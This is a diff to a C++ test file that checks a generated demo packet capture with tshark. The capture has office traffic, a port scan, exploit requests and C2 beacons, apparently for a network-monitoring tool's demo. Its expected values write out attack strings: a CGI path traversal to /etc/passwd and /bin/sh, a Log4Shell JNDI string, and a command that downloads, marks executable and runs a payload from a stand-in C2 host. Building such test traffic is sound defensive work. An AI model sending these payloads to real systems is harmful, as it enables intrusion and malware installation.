@@ -1,6 +1,6 @@
 // The demo capture holds the traffic docs/demo.md promises, checked with tshark as an
-// independent decoder: the office's benign protocols, the scan, the exploits and the C2
-// beacons, every checksum correct, only the anomalies put in on purpose, and the same
+// independent decoder: the office's benign protocols, the scan, the service probes, the
+// exploits, the implant's download and its C2 beacons, every checksum correct, only the anomalies put in on purpose, and the same
 // bytes for the same seed.
 #include <gtest/gtest.h>
 
@@ -17,7 +17,6 @@ namespace {
 
 const char* const kAttacker = "203.0.113.66";
 const char* const kWebServer = "192.168.10.80";
-const char* const kBot = "192.168.10.23";
 const char* const kC2 = "198.51.100.77";
 
 std::string generator() { return binaryDir() + "/tools/mamori-demogen"; }
@@ -128,7 +127,9 @@ TEST_F(DemoCapture, BenignOfficeTrafficIsThere) {
   const std::vector<std::string> streams = fields("http.request && ip.src == 192.168.10.0/24", "-e tcp.stream");
   std::multiset<std::string> perStream(streams.begin(), streams.end());
   EXPECT_TRUE(std::any_of(streams.begin(), streams.end(), [&](const std::string& s) { return perStream.count(s) == 2; }));
-  EXPECT_EQ(count("http.response.code == 200 && http.content_length > 0 && http.server"), count("http.response.code == 200"));
+  // Pages to the office's browsers all have a body (the attacker's last shell run prints nothing).
+  const std::string toOffice = "http.response.code == 200 && ip.dst == 192.168.10.0/24";
+  EXPECT_EQ(count(toOffice + " && http.content_length > 0 && http.server"), count(toOffice));
 
   EXPECT_EQ(count("ntp.flags.mode == 3"), count("ntp.flags.mode == 4"));
   EXPECT_GT(count("ntp"), 0u);
@@ -137,12 +138,13 @@ TEST_F(DemoCapture, BenignOfficeTrafficIsThere) {
 }
 
 TEST_F(DemoCapture, AttackerSynScansTheWebServer) {
-  // Every probe is its own conversation; the four exploit connections come on top.
+  // Every probe is its own conversation; the two service probes and five exploit
+  // connections come on top.
   size_t conversations = 0;
   for (const std::string& line : lines(tshark("-q -z conv,tcp -z conv,udp"))) {
     if (line.find(kAttacker) != std::string::npos && line.find(kWebServer) != std::string::npos) ++conversations;
   }
-  EXPECT_EQ(conversations, 200u + 4u);
+  EXPECT_EQ(conversations, 200u + 2u + 5u);
 
   const std::string fromTarget = std::string("ip.src == ") + kWebServer + " && ip.dst == " + kAttacker;
   EXPECT_EQ(count(fromTarget + " && tcp.flags.reset == 1 && tcp.flags.ack == 1"), 197u);
@@ -153,16 +155,25 @@ TEST_F(DemoCapture, AttackerSynScansTheWebServer) {
   EXPECT_EQ(count(std::string("ip.src == ") + kAttacker + " && tcp.flags.reset == 1 && tcp.flags.ack == 0"), 3u);
 }
 
-TEST_F(DemoCapture, AttackerSendsTheExploitsOverFullConnections) {
+TEST_F(DemoCapture, AttackerProbesTheWebServiceThenExploitsIt) {
   const std::vector<std::string> requests =
       fields(std::string("http.request && ip.src == ") + kAttacker,
              "-e http.request.method -e http.request.uri -e http.user_agent -e http.file_data");
-  ASSERT_EQ(requests.size(), 4u);
-  EXPECT_EQ(requests[0], "GET|/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd|curl/7.81.0|");
-  EXPECT_EQ(requests[1], "POST|/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh|curl/7.81.0|echo;id");
+  const std::string nse = "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
+  const std::string shell = "POST|/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh|curl/7.81.0|";
+  ASSERT_EQ(requests.size(), 7u);
+  EXPECT_EQ(requests[0], "GET|/|" + nse + "|");
+  EXPECT_EQ(requests[1], "GET|/robots.txt|" + nse + "|");
   EXPECT_EQ(requests[2], "GET|/|${jndi:ldap://203.0.113.66:1389/a}|");
   EXPECT_EQ(requests[3], "GET|/api/status|curl/7.81.0|");
-  EXPECT_EQ(count(std::string("http.response && ip.src == ") + kWebServer + " && ip.dst == " + kAttacker), 4u);
+  EXPECT_EQ(requests[4], "GET|/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd|curl/7.81.0|");
+  EXPECT_EQ(requests[5], shell + "echo;id");
+  EXPECT_EQ(requests[6], shell + "echo;curl -s -o /tmp/.u http://198.51.100.77/u;chmod +x /tmp/.u;/tmp/.u");
+  const std::vector<std::string> answers =
+      fields(std::string("http.response && ip.src == ") + kWebServer + " && ip.dst == " + kAttacker,
+             "-e http.response.code");
+  EXPECT_EQ(answers, (std::vector<std::string>{"200", "404", "200", "404", "403", "200", "200"}));
+  EXPECT_EQ(count("http.file_data contains \"uid=1(daemon)\""), 1u);  // the shell ran
 
   // One Log4Shell string lies in a single segment, the other only in the reassembled request.
   EXPECT_EQ(count("frame contains \"\\x24{jndi:\""), 1u);
@@ -170,11 +181,18 @@ TEST_F(DemoCapture, AttackerSendsTheExploitsOverFullConnections) {
   EXPECT_EQ(count("http.request.uri == \"/api/status\" && tcp.reassembled.length"), 1u);
 }
 
-TEST_F(DemoCapture, CompromisedWorkstationResolvesThenBeaconsEveryMinute) {
+TEST_F(DemoCapture, ExploitedWebServerFetchesAnImplantThenBeaconsEveryMinute) {
+  const std::vector<std::string> download =
+      fields(std::string("http.request && ip.src == ") + kWebServer + " && ip.dst == " + kC2,
+             "-e tcp.dstport -e http.request.uri -e http.user_agent");
+  ASSERT_FALSE(download.empty());
+  EXPECT_EQ(download[0], "80|/u|curl/7.81.0");
+  EXPECT_EQ(count("http.content_type == \"application/octet-stream\" && http.file_data[0:4] == 7f:45:4c:46"), 1u);
+
   const std::vector<std::string> lookups =
       fields("dns.qry.name == \"update.bad-c2.example\"", "-e frame.time_epoch -e ip.src -e dns.a");
   ASSERT_EQ(lookups.size(), 2u);  // the query and its answer
-  EXPECT_NE(lookups[0].find(kBot), std::string::npos);
+  EXPECT_NE(lookups[0].find(kWebServer), std::string::npos);
   EXPECT_NE(lookups[1].find(kC2), std::string::npos);
 
   const std::vector<std::string> beacons =
@@ -183,7 +201,7 @@ TEST_F(DemoCapture, CompromisedWorkstationResolvesThenBeaconsEveryMinute) {
   ASSERT_EQ(beacons.size(), 8u);
   EXPECT_LT(std::stod(lookups[1]), std::stod(beacons[0]));
   for (size_t i = 0; i < beacons.size(); ++i) {
-    EXPECT_NE(beacons[i].find(std::string("|") + kBot + "|" + kC2 + "|8080|POST|"
+    EXPECT_NE(beacons[i].find(std::string("|") + kWebServer + "|" + kC2 + "|8080|POST|"
                               "Mozilla/4.0 (compatible; MSIE 6.0; mamori-demo-beacon)"),
               std::string::npos)
         << beacons[i];
@@ -193,7 +211,8 @@ TEST_F(DemoCapture, CompromisedWorkstationResolvesThenBeaconsEveryMinute) {
       EXPECT_LE(interval, 62.0);
     }
   }
-  EXPECT_EQ(count(std::string("tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.dst == ") + kC2), 8u);
+  // The download and the eight beacons.
+  EXPECT_EQ(count(std::string("tcp.flags.syn == 1 && tcp.flags.ack == 0 && ip.dst == ") + kC2), 9u);
 }
 
 }  // namespace
